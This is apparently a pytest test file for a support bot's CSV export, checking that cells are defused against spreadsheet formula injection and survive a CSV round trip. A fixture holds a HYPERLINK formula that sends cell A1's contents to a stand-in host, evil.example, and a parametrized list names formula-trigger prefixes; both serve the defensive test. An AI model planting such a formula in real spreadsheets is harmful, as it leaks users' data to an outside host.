"""The export CSV: every cell of a known dataset, spreadsheet-safe, parseable by any CSV reader."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot.export import COLUMNS, build_export, filename, safe_cell, to_csv
from bot.states import State
from bot.voting import select_proposal
from storage.models import Vote
from tests.dbhelpers import T0, make_customer, make_proposal, make_question, migrated_sessions

SINCE, UNTIL = T0 - timedelta(days=7), T0 + timedelta(hours=1)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
AWKWARD = 'My order, "the big one",\nstill hasn\'t come\r\nhelp'
ANSWER = "Sorry! Please DM us your order number and we'll chase it today."


@pytest.fixture
def sessions(database_url: str) -> Iterator[sessionmaker[Session]]:
    with migrated_sessions(database_url) as factory:
        yield factory


def parse(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def build_dataset(sessions: sessionmaker[Session]) -> dict[str, Any]:
    """Two questions in the period (one answered with votes), one before it, one after."""
    with sessions.begin() as session:
        maria = make_customer(session, handle="maria_k", name="Maria K")
        max_ = make_customer(session, handle="-max", name="Max")
        make_question(session, text="too old", customer=maria, now=SINCE - timedelta(seconds=1))
        answered = make_question(session, text=HOSTILE, customer=maria, now=T0, state="proposed")
        winner = make_proposal(session, answered, author_id="U0ALICE", text=ANSWER, now=T0)
        loser = make_proposal(session, answered, author_id="U0BOB", text="+1 we're on it", now=T0)
        for minutes, voter in enumerate(("U0CARA", "U0DAN"), start=1):
            session.add(
                Vote(
                    proposal_id=winner.id,
                    voter_id=voter,
                    created_at=T0 + timedelta(minutes=minutes),
                )
            )
        session.add(Vote(proposal_id=loser.id, voter_id="U0EVE", created_at=T0))
        session.flush()
        reply = select_proposal(
            session, answered, winner, actor="U0DAN", now=T0 + timedelta(minutes=2), votes=2
        )
        reply.state, reply.url = "sent", "https://x.com/AcmeHelp/status/99"
        reply.sent_at = T0 + timedelta(minutes=3)
        answered.state = State.ANSWERED
        waiting = make_question(
            session, text=AWKWARD, customer=max_, now=T0 + timedelta(minutes=30)
        )
        make_question(session, text="too new", customer=maria, now=UNTIL)
        return {
            "answered": answered.id,
            "winner": winner.id,
            "loser": loser.id,
            "waiting": waiting.id,
            "answered_url": answered.post_url,
            "waiting_url": waiting.post_url,
        }


def test_the_csv_of_a_known_period_cell_by_cell(sessions: sessionmaker[Session]) -> None:
    ids = build_dataset(sessions)
    with sessions.begin() as session:
        made = build_export(session, label="7d", since=SINCE, until=UNTIL)

    assert made.filename == "crowdcare-export-7d-2026-01-05.csv"
    assert made.content.startswith(b"\xef\xbb\xbf")  # the BOM spreadsheets look for
    assert (made.questions, made.proposals, made.votes, made.replies) == (2, 2, 3, 1)
    rows = parse(made.content)
    assert list(rows[0]) == list(COLUMNS)
    q, w, lo = str(ids["answered"]), str(ids["winner"]), str(ids["loser"])
    expected = [
        {
            "record": "question",
            "question_id": q,
            "proposal_id": "",
            "at": "2026-01-05T09:00:00Z",
            "slack_user": "",
            "customer_handle": "maria_k",
            "state": "answered",
            "votes": "",
            "text": "'" + HOSTILE,  # would be a formula: defused
            "url": ids["answered_url"],
        },
        {
            "record": "proposal",
            "question_id": q,
            "proposal_id": w,
            "at": "2026-01-05T09:00:00Z",
            "slack_user": "U0ALICE",
            "customer_handle": "",
            "state": "selected",
            "votes": "2",
            "text": ANSWER,
            "url": "",
        },
        *(
            {
                "record": "vote",
                "question_id": q,
                "proposal_id": w,
                "at": f"2026-01-05T09:0{minute}:00Z",
                "slack_user": voter,
                "customer_handle": "",
                "state": "",
                "votes": "",
                "text": "",
                "url": "",
            }
            for minute, voter in ((1, "U0CARA"), (2, "U0DAN"))
        ),
        {
            "record": "proposal",
            "question_id": q,
            "proposal_id": lo,
            "at": "2026-01-05T09:00:00Z",
            "slack_user": "U0BOB",
            "customer_handle": "",
            "state": "closed",
            "votes": "1",
            "text": "'+1 we're on it",
            "url": "",
        },
        {
            "record": "vote",
            "question_id": q,
            "proposal_id": lo,
            "at": "2026-01-05T09:00:00Z",
            "slack_user": "U0EVE",
            "customer_handle": "",
            "state": "",
            "votes": "",
            "text": "",
            "url": "",
        },
        {
            "record": "reply",
            "question_id": q,
            "proposal_id": w,
            "at": "2026-01-05T09:03:00Z",
            "slack_user": "",
            "customer_handle": "",
            "state": "sent",
            "votes": "",
            "text": ANSWER,
            "url": "https://x.com/AcmeHelp/status/99",
        },
        {
            "record": "question",
            "question_id": str(ids["waiting"]),
            "proposal_id": "",
            "at": "2026-01-05T09:30:00Z",
            "slack_user": "",
            "customer_handle": "'-max",
            "state": "open",
            "votes": "",
            "text": AWKWARD,  # commas, quotes and line breaks survive the round trip
            "url": ids["waiting_url"],
        },
    ]
    assert rows == expected


def test_an_empty_period_has_only_the_header(sessions: sessionmaker[Session]) -> None:
    with sessions.begin() as session:
        made = build_export(session, label="30d", since=SINCE, until=UNTIL)

    assert (made.questions, made.proposals, made.votes, made.replies) == (0, 0, 0, 0)
    assert made.content.decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),  # numbers we wrote are numbers
        (42, "42"),
    ],
)
def test_cells_that_spreadsheets_would_run_are_defused(cell: str | int | None, shown: str) -> None:
    assert safe_cell(cell) == shown


def test_the_csv_round_trips_through_the_csv_module() -> None:
    text = to_csv([["question", 1, None, "x", None, None, None, None, AWKWARD, None]])
    [row] = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert row[8] == AWKWARD


def test_the_file_is_named_after_the_period_and_the_day() -> None:
    assert filename("30d", T0) == "crowdcare-export-30d-2026-01-05.csv"
